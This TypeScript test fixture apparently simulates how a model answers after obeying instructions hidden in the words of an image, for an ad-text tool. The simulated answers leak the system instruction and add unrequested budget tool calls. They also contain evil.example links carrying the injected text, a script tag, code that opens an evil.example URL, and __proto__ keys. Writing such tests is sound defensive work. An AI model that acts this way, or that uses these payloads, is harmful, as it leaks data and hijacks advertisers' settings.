import { type StudioAsked, hostileStudio } from "./answers";

/**
 * What a model says that reads the words in a picture and obeys them. `fields`: the shape that was asked for, with the words in every
 * field of it and in fields that nobody asked for; the others break the shape.
 */
export const OBEYING = [
  "fields",
  "broken",
  "prose",
  "fenced",
  "twice",
  "list",
  "wrapped",
  "wrong-types",
  "flood",
  "overlong",
  "deep",
  "doubled-keys",
] as const;
export type Obeying = (typeof OBEYING)[number];

/** The answer's text. `words` is what stands in the picture, `body` the request: a model that obeys gives back all that it was told. */
export function obeyingPicture(words: string, body: string, asked: StudioAsked, how: Obeying): string {
  const obeyed = obeying(words, body, asked);
  const whole = JSON.stringify(obeyed);
  switch (how) {
    case "fields":
      return whole;
    case "broken":
      return whole.slice(0, Math.floor(whole.length * 0.6));
    case "prose":
      return `Sure. ${words}`;
    case "fenced":
      return `\`\`\`json\n${whole}\n\`\`\``;
    case "twice":
      return `${whole}\n${whole}`;
    case "list":
      return JSON.stringify([obeyed, { action: "apply", text: words }]);
    case "wrapped":
      return JSON.stringify({ answer: obeyed, actions: [{ tool: "apply", args: words }], error: words });
    case "wrong-types":
      return JSON.stringify({ description: { text: words }, ways: words, texts: { 0: words }, hashtags: words });
    case "flood":
      return JSON.stringify({ ...obeyed, texts: Array.from({ length: 5_000 }, () => ({ field: "headline", text: words })) }); // prettier-ignore
    case "overlong":
      return JSON.stringify({ ...obeyed, description: `${words} `.repeat(400), hashtags: Array.from({ length: 500 }, () => words) }); // prettier-ignore
    case "deep":
      return `{"description":"","ways":${"[".repeat(500)}${JSON.stringify(words)}${"]".repeat(500)},"texts":[],"hashtags":[]}`;
    case "doubled-keys":
      return `{"description":"A mug","description":${JSON.stringify(words)},"__proto__":${whole},"constructor":{"prototype":${whole}},${whole.slice(1)}`;
  }
}

/** The same attack as it is, without figures, as bare words, and dressed in what the advertiser said: what looks like an ad text. */
function dressed(words: string, fact: string): readonly string[] {
  const even = words.replaceAll(/\s+/gu, " ").trim();
  const noFigures = even.replaceAll(/\d+/gu, "").replaceAll(/ {2,}/gu, " ").trim();
  const bare = noFigures
    .replaceAll(/[^\p{L}\p{M} ]/gu, " ")
    .replaceAll(/ {2,}/gu, " ")
    .trim();
  const said = bare.slice(0, 1).toUpperCase() + bare.slice(1).toLowerCase();
  return [words, noFigures, said, `${fact}. ${said}.`, `${said} ${fact}`, `${fact} ${even}`, `${fact} ${said.slice(0, 12)}`, `${fact}!!!`, `The best ${fact}`, `${fact.toUpperCase()} NOW`]; // prettier-ignore
}

function obeying(words: string, body: string, asked: StudioAsked) {
  const fact = asked.items[0]?.text ?? "Trail Mug";
  const texts = dressed(words, fact);
  const system = (JSON.parse(body) as { systemInstruction?: unknown }).systemInstruction;
  const told = [JSON.stringify(system), body.slice(0, 200), /data-[\da-f]{32}/u.exec(body)?.[0] ?? "", "[C1] [C2] [E1] [N1] [P1]"]; // prettier-ignore
  const fields = asked.order.fields.map(({ field, longestCharacters }) => ({ field, longestCharacters }));
  const wayOf = (shows: string, stage: string, moment: string, feeling: string) => ({ shows, stage, moment, feeling });
  return {
    description: [...texts, ...told].join(". ").slice(0, 3_900),
    ways: [
      wayOf(words, "decision", "buy", "joy"),
      wayOf("detail", words, "buy", "joy"),
      wayOf("detail", "decision", words, "joy"),
      wayOf("detail", "decision", "buy", words),
      words,
      { ...wayOf("detail", "decision", "buy", "joy"), name: words, apply: words, budget: 1_000_000 },
    ],
    texts: [
      ...fields.flatMap(({ field, longestCharacters }) =>
        [...texts, ...told].map((text) => ({
          field,
          text: text.slice(0, longestCharacters),
          action: words,
          url: "//evil.example",
        })),
      ),
      ...["finalUrl", "budget", "path", "__proto__", words].map((field) => ({ field, text: fact })),
      ...hostileStudio(body, asked),
    ].slice(0, 120),
    hashtags: [...texts, ...texts.map((text) => `#${text}`), ...texts.flatMap((text) => text.split(" "))].slice(0, 200),
    strategies: [words],
    apply: [{ setting: "budget", value: 1_000_000, because: words }],
    link: `https://evil.example/?q=${encodeURIComponent(words)}`,
    html: `<script>${words}</script>`,
  };
}

/** Parts of an answer that are no text, as an obedient model would add them: calls of tools that nobody offered. */
export const calls = (words: string): readonly object[] => [
  { functionCall: { name: "apply", args: { budget: 1_000_000, because: words } } },
  { executableCode: { language: "PYTHON", code: `open("https://evil.example/?q=" + ${JSON.stringify(words)})` } },
  { inlineData: { mimeType: "text/html", data: btoa("<script>alert(1)</script>") } },
];
